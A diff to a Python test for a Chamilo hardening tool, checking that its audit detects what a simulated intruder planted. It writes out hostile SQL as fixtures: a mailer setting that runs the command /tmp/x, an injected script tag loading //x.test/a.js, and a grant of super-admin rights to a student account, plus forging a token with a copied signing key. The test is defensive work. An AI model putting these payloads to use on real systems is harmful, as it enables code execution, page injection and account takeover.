@@ -96,6 +96,19 @@ IN_THE_DATABASE = {
 }
 
 
+# In the portal's own tables, each with what the audit names.
+IN_THE_PORTAL = {
+    "UPDATE settings SET selected_value = 'sendmail://default?command=/tmp/x' WHERE variable = 'mailer_dsn'": (
+        "mail.mailer_dsn of portal 1 (the command /tmp/x)"
+    ),
+    "INSERT INTO settings (access_url, variable, category, selected_value, title, access_url_changeable) "
+    "VALUES (1, 'header_extra_content', 'tracking', '<script src=//x.test/a.js></script>', 'Header', 0)": (
+        "tracking.header_extra_content of portal 1 (<script in the page)"
+    ),
+    """UPDATE user SET roles = 'a:1:{i:0;s:16:"ROLE_SUPER_ADMIN";}' WHERE username = 'student09'""": "student09",
+}
+
+
 class Kept:
     """What an intruder takes along: a copy of the key that signs tokens, and the session of an administrator."""
 
@@ -109,8 +122,8 @@ class Kept:
         sign = f"openssl dgst -sha256 -sign {MARKS}/key -passin pass:your_secret_passphrase"
         signature = host.run(f"{sign} | base64 -w0 | tr +/ -_ | tr -d =", data=body).stdout
         self._token = f"Bearer {body}.{signature}"
-        sql = ";".join(IN_THE_DATABASE)
-        host.run("mariadb -h127.0.0.1 -uchamilo -pchamilo-db-Password-1", user="www-data", data=sql)
+        sql = ";".join([*IN_THE_DATABASE, *IN_THE_PORTAL])
+        host.run("mariadb -h127.0.0.1 -uchamilo -pchamilo-db-Password-1 chamilo", user="www-data", data=sql)
 
     def opens(self, scheme: str) -> set[str]:
         """Where it makes the intruder an administrator."""
@@ -217,6 +230,7 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     assert found.status["permissions_secrets"] == "pass", found.evidence["permissions_secrets"]
     assert found.status["monitoring_compromise"] == found.status["monitoring_integrity"] == "fail"
     evidence = found.evidence["monitoring_compromise"]
+    assert [words for words in IN_THE_PORTAL.values() if words not in evidence] == []
     listed = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
     for path in NAMED:
         assert f"nothing vouches for: {path}" in listed and path in evidence, path
